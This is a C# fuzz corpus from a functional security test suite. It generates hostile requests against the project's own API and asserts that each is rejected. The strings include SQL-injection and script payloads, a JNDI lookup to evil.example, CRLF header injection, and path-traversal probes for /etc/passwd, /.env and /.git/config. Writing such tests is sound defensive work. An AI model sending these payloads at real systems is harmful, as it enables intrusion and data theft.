
namespace PreSessions.FunctionalTests.Security;

/// <summary>Requests whose tokens, methods, headers or queries are malformed or hostile.</summary>
public sealed partial class FuzzCorpus
{
    // ---- Tokens ------------------------------------------------------------------------------------------------------

    private IEnumerable<string> HostileAuthorizations()
    {
        var s = scene;
        var secret = Long(43, 'A');
        string B64(byte[] bytes) => Convert.ToBase64String(bytes).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        yield return "Bearer ' OR 1=1 --";
        yield return "Bearer <script>alert(1)</script>";
        yield return "Bearer ${jndi:ldap://evil.example/a}";
        yield return $"Bearer pso_org-aaaaaaaaaaaaaaaa_{secret}";
        yield return $"Bearer pso_{s.CsoA.Id}_{secret}";
        yield return $"Bearer pso_{s.CsoA.Id}_{s.CsoA.Token[^43..]}x";
        yield return $"Bearer {s.CsoA.Token[..^1]}";
        yield return $"Bearer psc_{B64(Utf8("../../etc/passwd"))}_{secret}";
        yield return $"Bearer psc_{B64(Utf8(s.Room))}_{secret}";
        yield return $"Bearer psc_{B64([0xC0, 0xAF, 0xED, 0xA0, 0x80])}_{secret}";
        yield return $"Bearer psc_{B64(Utf8("\u0000"))}_{secret}";
        yield return $"Bearer psc_{Long(600, 'A')}_{secret}";
        yield return $"Bearer psc_{Long(601, 'A')}_{secret}";
        yield return $"Bearer psc_A_{secret}";
        yield return $"Bearer psc_____{secret}";
        yield return "Bearer " + s.OperatorToken + "x";
        yield return "Bearer " + s.OperatorToken[..^1];
        yield return "Bearer " + s.OperatorToken.ToUpperInvariant();
        yield return "Basic " + Convert.ToBase64String(Utf8("operator:" + s.OperatorToken));
        yield return "Bearer";
        yield return "Bearer ";
        yield return "Bearer  ";
        yield return "Token " + s.OperatorToken;
        yield return s.OperatorToken;
        yield return "Bearer " + Long(12_000, 'x');
        yield return "Bearer \u202e" + s.OperatorToken;
        yield return "Bearer ключ";
        yield return "Bearer 🙂";
        yield return "Bearer null";
        yield return "Bearer undefined";
        yield return "Bearer %00";
        yield return "Bearer a\u0000b";
    }

    private void TokenMutations()
    {
        var s = scene;
        // Hostile tokens where a role is needed: 401, with the valid body, so a token wrongly accepted would show in the state.
        foreach (var r in Routes().Where(r => r.Token is not null))
            foreach (var authorization in HostileAuthorizations())
                Add(r.Name, "hostile-token", r.Method, Fill(r.Template, org: r.Name.StartsWith("organisations.token") ? s.CsoC.Id : null),
                    r.Body is null ? null : Utf8(r.Body), r.Body is null ? null : "application/json", authorization, [Unauthorized]);
        // Public reads do not look at the token: the same answer as without one.
        foreach (var r in Routes().Where(r => r.Token is null && !r.Stream && r.Name != "rooms.assets"))
            foreach (var authorization in HostileAuthorizations().Where((_, i) => i % 4 == 0))
                Add(r.Name, "hostile-token", r.Method, Fill(r.Template), null, null, authorization, [200], successMediaType: r.SuccessMediaType);
        // No token at all.
        foreach (var r in Routes().Where(r => r.Token is not null))
            Add(r.Name, "no-token", r.Method, Fill(r.Template), r.Body is null ? null : Utf8(r.Body), r.Body is null ? null : "application/json", null, [Unauthorized]);

        // Valid tokens of the wrong role: 403 before the body is read, or after it is (whose resource it is).
        var wrongRole = new (string Route, string Token)[]
        {
            ("organisations.token.post", s.CsoA.Token), ("organisations.token.delete", s.ConsoleToken), ("wg-session.put", s.CsoA.Token),
            ("wg-session.put", s.ConsoleToken), ("pre-session.put", s.Mission.Token), ("pre-session.put", s.ConsoleToken),
            ("applications.post", s.OperatorToken), ("applications.post", s.ConsoleToken), ("applications.post", s.Mission.Token),
            ("applications.delete", s.ConsoleToken), ("applications.delete", s.NhriB.Token), ("applications.delete", s.Mission.Token),
            ("rsvps.put", s.OperatorToken), ("rsvps.put", s.ConsoleToken), ("rsvps.put", s.CsoA.Token), ("rsvps.put", s.DecliningMission.Token),
            ("timer.command", s.CsoA.Token), ("timer.command", s.Mission.Token), ("timer.command", s.OtherRoomConsoleToken),
            ("timer.message.put", s.CsoA.Token), ("timer.message.put", s.OtherRoomConsoleToken), ("timer.message.delete", s.Mission.Token),
            ("timer.message.delete", s.OtherRoomConsoleToken), ("rundown.put", s.ConsoleToken), ("rundown.put", s.CsoA.Token),
            ("rundown.delete", s.ConsoleToken), ("time-report", s.OtherRoomConsoleToken), ("time-report.csv", s.CsoA.Token), ("wg-time-report", s.Mission.Token),
            ("console-tokens.post", s.ConsoleToken), ("console-tokens.post", s.CsoA.Token), ("console-tokens.get", s.ConsoleToken),
            ("console-tokens.delete", s.ConsoleToken), ("organisations.get", s.NhriB.Token), ("organisations.get", s.ConsoleToken),
            ("organisations.get", s.Mission.Token),
        };
        var routes = Routes().ToDictionary(r => r.Name);
        foreach (var (name, token) in wrongRole)
        {
            var r = routes[name];
            Add(r.Name, "wrong-role", r.Method, Fill(r.Template, tokenId: scene.ConsoleTokenId), r.Body is null ? null : Utf8(r.Body),
                r.Body is null ? null : "application/json", Bearer(token), [Forbidden]);
        }
        Add("audit", "wrong-role", "GET", $"/api/audit?wg={s.Wg}", null, null, Bearer(s.CsoA.Token), [Forbidden]);
        Add("audit", "wrong-role", "GET", $"/api/audit?wg={s.Wg}", null, null, Bearer(s.ConsoleToken), [Forbidden]);
        foreach (var authorization in HostileAuthorizations())
            Add("audit", "hostile-token", "GET", $"/api/audit?wg={s.Wg}&sur={s.Sur}", null, null, authorization, [Unauthorized]);
        foreach (var authorization in HostileAuthorizations().Where((_, i) => i % 3 == 0))
            Add("register", "hostile-token", "POST", "/api/organisations", Utf8("{\"name\":null,\"kind\":\"cso\"}"), "application/json", authorization, [Bad], "name");
    }

    // ---- Methods -----------------------------------------------------------------------------------------------------

    private void MethodMutations()
    {
        var s = scene;
        var op = Bearer(s.OperatorToken);
        var paths = new (string Name, string Url, string[] Methods)[]
        {
            ("register", "/api/organisations", ["POST", "GET"]),
            ("organisations.get", $"/api/organisations/{s.CsoA.Id}", ["GET"]),
            ("organisations.token", $"/api/organisations/{s.CsoC.Id}/token", ["POST", "DELETE"]),
            ("wg-sessions", "/api/wg-sessions", ["GET"]),
            ("wg-session", $"/api/wg-sessions/{s.Wg}", ["GET", "PUT"]),
            ("schedule.ics", $"/api/wg-sessions/{s.Wg}/schedule.ics", ["GET"]),
            ("wg-time-report", $"/api/wg-sessions/{s.Wg}/time-report", ["GET"]),
            ("pre-session", s.PreSession, ["GET", "PUT"]),
            ("applications", $"{s.PreSession}/applications", ["POST"]),
            ("applications.delete", $"{s.PreSession}/applications/{s.CsoA.Id}", ["DELETE"]),
            ("rsvps.put", $"{s.PreSession}/rsvps/{s.Mission.Id}", ["PUT"]),
            ("timer.get", $"{s.PreSession}/timer", ["GET"]),
            ("timer.command", $"{s.PreSession}/timer/pause", ["POST"]),
            ("timer.message", $"{s.PreSession}/timer/message", ["PUT", "DELETE", "POST"]),
            ("timer.events", $"{s.PreSession}/timer/events", ["GET", "POST"]),
            ("rundown", $"{s.PreSession}/rundown", ["GET", "PUT", "DELETE"]),
            ("time-report", $"{s.PreSession}/time-report", ["GET"]),
            ("time-report.csv", $"{s.PreSession}/time-report.csv", ["GET"]),
            ("rooms.get", $"/api/rooms/{Uri.EscapeDataString(s.Room)}", ["GET"]),
            ("console-tokens", $"/api/rooms/{Uri.EscapeDataString(s.Room)}/console-tokens", ["GET", "POST"]),
            ("console-tokens.delete", $"/api/rooms/{Uri.EscapeDataString(s.Room)}/console-tokens/{s.ConsoleTokenId}", ["DELETE"]),
            ("rooms.events", $"/api/rooms/{Uri.EscapeDataString(s.Room)}/events", ["GET"]),
            ("audit", $"/api/audit?wg={s.Wg}", ["GET"]),
            ("states.get", $"/api/states/{s.Sur}", ["GET"]),
            ("health.live", "/health/live", ["GET"]),
            ("health.ready", "/health/ready", ["GET"]),
            ("openapi", "/openapi/v1.json", ["GET"]),
            ("rooms.page", $"/rooms/{Uri.EscapeDataString(s.Room)}/console", ["GET"]),
            ("rooms.assets", "/rooms/assets/console.js", ["GET"]),
        };
        string[] all = ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "FUZZ"];
        foreach (var (name, url, methods) in paths)
            foreach (var method in all.Except(methods))
                Add(name, "odd-method", method, url, null, null, op, [Method]);
        // A CORS preflight from a foreign origin: no CORS here, so the method is not allowed.
        foreach (var (name, url, _) in paths.Where((_, i) => i % 3 == 0))
            Add(name, "odd-method", "OPTIONS", url, null, null, null, [Method],
                headers: [new("Origin", "https://evil.example"), new("Access-Control-Request-Method", "DELETE"), new("Access-Control-Request-Headers", "authorization")]);
        // An override header changes no method: the request is what it says it is (a GET of public data here, or no route).
        foreach (var (name, url, methods) in paths.Where(p => !p.Methods.Contains("GET")))
            Add(name, "odd-method", "GET", url, null, null, op, [Method], headers: [new("X-HTTP-Method-Override", methods[0])]);
    }

    // ---- Headers -----------------------------------------------------------------------------------------------------

    private void HeaderMutations(BodyEndpoint[] bodies)
    {
        var s = scene;
        // More than 16 KiB of headers: 431 wherever the request goes, before any token or body is looked at.
        var urls = Routes().Select(r => (r.Name, r.Method, Url: Fill(r.Template))).ToList();
        foreach (var (name, method, url) in urls)
        {
            Add(name, "huge-header", method, url, null, null, null, [HeadersTooLarge], headers: [new("X-Padding", Long(20 * 1024, 'h'))]);
            Add(name, "huge-header", method, url, null, null, "Bearer " + Long(20 * 1024, 'x'), [HeadersTooLarge]);
        }
        foreach (var (name, method, url) in urls.Where((_, i) => i % 3 == 0))
        {
            Add(name, "huge-header", method, url, null, null, Bearer(s.OperatorToken), [HeadersTooLarge],
                headers: [.. Enumerable.Range(0, 300).Select(i => new KeyValuePair<string, string>($"X-Fuzz-{i}", Long(60, 'v')))]);
            Add(name, "huge-header", method, url, null, null, null, [HeadersTooLarge], headers: [new("Cookie", "session=" + Long(20 * 1024, 'c'))]);
            Add(name, "huge-header", method, url, null, null, null, [HeadersTooLarge], headers: [new("X-" + Long(17 * 1024, 'N'), "v")]);
        }
        Add("unknown", "huge-header", "GET", "/no/such/place", null, null, null, [HeadersTooLarge], headers: [new("X-Padding", Long(20 * 1024, 'h'))]);
        Add("health.live", "huge-header", "GET", "/health/live", null, null, null, [HeadersTooLarge], headers: [new("User-Agent", Long(20 * 1024, 'u'))]);

        // Under the limit, the request is judged as usual: here its invalid body.
        foreach (var e in bodies)
        {
            var invalid = Utf8(Object(e.Fields.Select(f => (f.Name, "null"))));
            Add(e.Name, "large-header", e.Method, e.Url, invalid, "application/json", e.Token is "" ? null : e.Token, [Bad],
                headers: [new("X-Padding", Long(12 * 1024, 'h'))]);
            // Header values with CR/LF, NUL and non-ASCII: refused by the client, or judged as usual by the gateway.
            foreach (var value in new[] { "a\r\nX-Injected: 1", "a\nb", "a\u0000b", "ü-ß-\u202e", "🙂" })
                Add(e.Name, "header-injection", e.Method, e.Url, invalid, "application/json", e.Token is "" ? null : e.Token, [Bad],
                    headers: [new("X-Fuzz", value)]);
            // Hostile Idempotency-Keys on a valid body: refused before anything happens.
            if (e.Headers?.Contains("Idempotency-Key") == true)
                foreach (var key in IdempotencyKeys)
                    Add(e.Name, "idempotency-key", e.Method, e.Url, Utf8(e.Valid), "application/json", e.Token is "" ? null : e.Token, [Bad], "Idempotency-Key",
                        headers: [new("Idempotency-Key", key)]);
        }
        foreach (var key in IdempotencyKeys)
            Add("applications.delete", "idempotency-key", "DELETE", $"{s.PreSession}/applications/{s.CsoA.Id}", null, null, Bearer(s.CsoA.Token), [Bad],
                "Idempotency-Key", headers: [new("Idempotency-Key", key)]);
        // Two Idempotency-Key headers: one request, one key, or a refusal; never two effects.
        Add("applications.post", "idempotency-key", "POST", $"{s.PreSession}/applications", Utf8("{\"speakerName\":null}"), "application/json",
            Bearer(s.CsoD.Token), [Bad], headers: [new("Idempotency-Key", "one"), new("Idempotency-Key", "two")]);

        // Accept headers that exclude JSON: the status stays the contract's.
        foreach (var accept in new[] { "text/html", "application/xml", "image/png", "text/plain;q=1, application/json;q=0" })
        {
            Add("unknown", "accept", "GET", "/api/no-such-thing", null, null, null, [NotFound], headers: [new("Accept", accept)]);
            Add("wg-session.get", "accept", "GET", "/api/wg-sessions/0", null, null, null, [Bad], "wg", headers: [new("Accept", accept)]);
            Add("audit", "accept", "GET", $"/api/audit?wg={s.Wg}", null, null, null, [Unauthorized], headers: [new("Accept", accept)]);
            Add("audit", "accept", "GET", $"/api/audit?wg={s.Wg}", null, null, Bearer(s.CsoA.Token), [Forbidden], headers: [new("Accept", accept)]);
            Add("register", "accept", "POST", "/api/organisations", Utf8("{"), "application/json", null, [Bad], headers: [new("Accept", accept)]);
            Add("wg-session.put", "accept", "PATCH", $"/api/wg-sessions/{s.Wg}", null, null, null, [Method], headers: [new("Accept", accept)]);
            Add("register", "accept", "POST", "/api/organisations", Utf8("{}"), "text/plain", null, [Unsupported], headers: [new("Accept", accept)]);
        }
    }

    // ---- Queries (the audit log) ---------------------------------------------------------------------------------------

    private void QueryMutations()
    {
        var s = scene;
        var op = Bearer(s.OperatorToken);
        foreach (var (query, field) in new (string, string?)[]
        {
            ("", "query"), ("?", "query"), ($"?sur={s.Sur}", null), ($"?wg={s.Wg}&organisationId={s.CsoA.Id}", "query"),
            ($"?wg={s.Wg}&room=x", "query"), ($"?organisationId={s.CsoA.Id}&room=x", "query"), ($"?wg={s.Wg}&wg={s.Wg + 1}", "wg"),
            ("?wg=0", "wg"), ("?wg=1000", "wg"), ("?wg=-1", "wg"), ("?wg=%00", "wg"), ("?wg=1%20OR%201=1", "wg"), ("?wg=%27%20OR%201=1%20--", "wg"),
            ("?wg=" + Long(5000, '9'), "wg"), ("?wg=%EF%BC%92%EF%BC%99", "wg"), ($"?wg={s.Wg}&sur=fra", "sur"), ($"?wg={s.Wg}&sur=..%2F..%2Fetc", "sur"),
            ($"?wg={s.Wg}&sur=%3Cscript%3E", "sur"), ($"?wg=x&sur={s.Sur}", "wg"), ("?organisationId=org-", "organisationId"),
            ("?organisationId=..%2F..%2Fetc%2Fpasswd", "organisationId"), ("?organisationId=%27%20OR%201=1%20--", "organisationId"),
            ("?organisationId=" + Long(5000, 'o'), "organisationId"), ("?organisationId=org-aaaaaaaaaaaaaaaa%00", "organisationId"),
            ("?room=%00", "room"), ("?room=" + Long(101, 'r'), "room"), ("?room=" + Long(20_000, 'r'), "room"), ("?room=a%0D%0Ab", "room"),
            ("?room=%20%20", "room"), ("?wg=1%0A", "wg"), ($"?wg={s.Wg}&sur=FRA%0A", "sur"), ("?organisationId=org-aaaaaaaaaaaaaaaa%0A", "organisationId"), ($"?organisationId={s.CsoA.Id}&organisationId={s.NhriB.Id}", "organisationId"),
        })
            Add("audit", "query", "GET", "/api/audit" + query, null, null, op, [Bad], field, errorsOptional: false);
    }

    // ---- Routes that do not exist ------------------------------------------------------------------------------------

    private void RouteMutations()
    {
        var s = scene;
        var op = Bearer(s.OperatorToken);
        foreach (var url in new[]
        {
            "/api", "/api/", "/api/unknown", $"/api/wg-sessions/{s.Wg}/pre-sessions",
            $"/api/wg-sessions/{s.Wg}/pre-sessions/{s.Sur}/applications/{s.CsoA.Id}/extra", $"/api/organisations/{s.CsoA.Id}/applications",
            "/api/organisations/x/y/z", "/.env", "/appsettings.json", "/web.config", "/.git/config", "/etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
            "/api/..%2F..%2Fetc%2Fpasswd", "/api/rooms", "/api/rooms/", "/api/states", "/api/audit/x", "/rooms", "/rooms/x", "/rooms/assets",
            "/rooms/assets/", "/wwwroot/rooms/console.html", "/rooms/console.html", "/openapi/v2.json", "/openapi/../appsettings.json", "/health",
            "/health/../../etc/passwd", "/API/ORGANISATIONS/X/Y", "/api/organisations%2F" + s.CsoA.Id,
            "/" + Long(5000, 'p'), "/api/wg-sessions/" + string.Concat(Enumerable.Repeat("a/", 500)), "/cgi-bin/test.cgi", "/wp-admin/",
            "/api/wg-sessions/1/pre-sessions/FRA/timer/start/again",
        })
        {
            Add("unknown", "unknown-route", "GET", url, null, null, null, [NotFound]);
            Add("unknown", "unknown-route", "POST", url, Utf8("{}"), "application/json", op, [NotFound, Method]);
        }
        Add("wg-session.put", "path", "PUT", "/api/wg-sessions/999%0A", Utf8("{\"title\":\"T\",\"venue\":\"V\",\"provisional\":true}"), "application/json", op, [Bad], "wg");
        foreach (var url in new[] { "/api/../../../../etc/passwd", "/rooms/assets/../../appsettings.json", "/./api/./unknown", "/api//organisations//x" })
            Add("unknown", "path-traversal", "GET", url, null, null, null, [NotFound], rawUrl: true);
    }

    // ---- Random combinations -----------------------------------------------------------------------------------------

    /// <summary>A random field of a random endpoint gets a random invalid value, behind random truncation or wrapping.</summary>
    private void RandomCombinations(BodyEndpoint[] bodies, int count)
    {
        for (var i = 0; i < count; i++)
        {
            var e = bodies[_random.Next(bodies.Length)];
            var f = e.Fields[_random.Next(e.Fields.Length)];
            var values = Invalid(f).ToList();
            var (mutation, value) = values[_random.Next(values.Count)];
            var body = e.With(f.Name, value);
            switch (_random.Next(4))
            {
                case 0:
                    Body(e, "random:" + mutation, Utf8(body), [Bad], FieldOf(f, mutation, value));
                    break;
                case 1:
                    Body(e, "random:broken-json", Utf8(body[.._random.Next(1, body.Length - 1)]), [Bad]);
                    break;
                case 2:
                    Body(e, "random:deep-nesting", Utf8(Long(Math.Min(_random.Next(65, 20_000), 60_000 - body.Length), '[') + body), [Bad]);
                    break;
                default:
                    var extra = Injections[_random.Next(Injections.Length)];
                    // An injection string as a key nobody reads, beside the invalid field: still the field's 400.
                    Body(e, "random:" + mutation + "+injection-key", Utf8(body[..^1] + "," + Str(extra) + ":" + Str(extra) + "}"), [Bad], FieldOf(f, mutation, value));
                    break;
            }
        }
    }
}
